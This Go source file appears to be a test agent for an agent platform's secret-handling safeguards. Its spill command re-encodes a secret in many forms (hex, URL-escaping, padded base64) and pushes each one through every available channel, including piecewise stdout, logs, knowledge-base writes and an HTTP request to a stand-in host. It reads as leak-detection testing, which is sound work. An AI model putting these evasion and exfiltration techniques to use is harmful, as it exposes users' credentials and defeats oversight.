package main

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"strings"

	"runloop.dev/rlp/agents/sdk"
)

var secretCommands = map[string]command{
	"secret":   {1, secret},
	"spill":    {1, spill},
	"leakfile": {2, leakFile},
	"sendkey":  {2, sendKey},
	"keynames": {2, keyNames},
	"leakfind": {3, leakFind},
}

func secret(a []string) (string, error) { return sdk.SecretHandle(a[0]) }

// sendKey sends the handle of a secret as a header and says what came back.
func sendKey(a []string) (string, error) {
	handle, err := sdk.SecretHandle(a[0])
	if err != nil {
		return "", err
	}
	resp, err := sdk.HTTP(sdk.HTTPRequest{URL: a[1], Headers: map[string]string{"Authorization": "Bearer " + handle}})
	if err != nil {
		return "", err
	}
	return string(resp.Body), nil
}

// keyNames does what sendKey does and says the names of the headers that came.
func keyNames(a []string) (string, error) {
	handle, err := sdk.SecretHandle(a[0])
	if err != nil {
		return "", err
	}
	resp, err := sdk.HTTP(sdk.HTTPRequest{URL: a[1], Headers: map[string]string{"Authorization": "Bearer " + handle}})
	return fmt.Sprint(resp.Headers), err
}

// leakFind asks for a handle and searches: leakfind SECRET DOMAIN TEXT.
func leakFind(a []string) (string, error) {
	if _, err := sdk.SecretHandle(a[0]); err != nil {
		return "", err
	}
	return search([]string{a[1], a[2], "10"})
}

// spill asks for the handle of a secret whose value the agent was told on its
// stdin, and puts the value everywhere it can reach, however it can be written.
func spill(a []string) (string, error) {
	text, err := stdin(nil)
	if err != nil {
		return "", err
	}
	var value string
	if err := json.Unmarshal([]byte(text), &value); err != nil {
		return "", err
	}
	if _, err := sdk.SecretHandle(a[0]); err != nil {
		return "", err
	}
	for i, s := range writings(value) {
		for at := 0; at < len(s); at += 7 { // in pieces
			fmt.Print(s[at:min(at+7, len(s))])
		}
		fmt.Fprintf(os.Stderr, "stderr %s\n", s)
		_ = sdk.Log("info", "log "+s)
		_ = sdk.Result([]byte(fmt.Sprintf("{%q:%q}", "k"+s, s)))
		_, _ = sdk.KBPut("notes", fmt.Sprint("key", i, " ", s), []byte("value "+s))
		_, _ = sdk.KBGet("contacts", s) // denied: its key is in the record
		_, _ = os.ReadFile("/nowhere/" + s)
		_, _ = sdk.ExecRun(sdk.ExecRequest{Argv: []string{"/nowhere/" + s}})
		_, _ = sdk.HTTP(sdk.HTTPRequest{URL: "https://nowhere.example/" + url.PathEscape(s)})
		_, _ = sdk.SecretHandle("runloop/x/" + s)
	}
	_, _ = sdk.KBPut("notes", "last", []byte("what is no secret is kept"))
	return "done", nil
}

func writings(v string) []string {
	text, _ := json.Marshal(v)
	list := []string{
		v, hex.EncodeToString([]byte(v)), strings.ToUpper(hex.EncodeToString([]byte(v))),
		url.QueryEscape(v), url.PathEscape(v), string(text),
	}
	lower := []byte(url.QueryEscape(v))
	for i := range lower {
		if lower[i] == '%' {
			copy(lower[i:], strings.ToLower(string(lower[i:i+3])))
		}
	}
	list = append(list, string(lower))
	for pad := range 3 {
		b := []byte(strings.Repeat("x", pad) + v)
		list = append(list, base64.StdEncoding.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b))
	}
	return list
}

// leakFile asks for a handle and prints a file that it may read.
func leakFile(a []string) (string, error) {
	if _, err := sdk.SecretHandle(a[0]); err != nil {
		return "", err
	}
	return read(a[1:])
}
